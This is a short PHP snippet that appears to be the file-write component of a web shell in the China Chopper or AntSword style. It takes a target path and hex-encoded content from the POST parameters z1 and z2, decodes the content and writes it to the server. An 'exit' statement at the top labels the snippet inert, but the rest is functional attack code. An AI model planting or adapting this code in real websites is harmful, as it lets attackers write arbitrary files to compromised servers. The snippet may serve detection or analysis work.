<?php exit; /* inert */ 
$f = $_POST["z1"];
$c = str_replace("\r", "", str_replace("\n", "", $_POST["z2"]));
$buf = "";
for ($i = 0; $i < strlen($c); $i += 2) $buf .= urldecode("%" . substr($c, $i, 2));
echo @fwrite(fopen($f, "w"), $buf) ? "1" : "0";
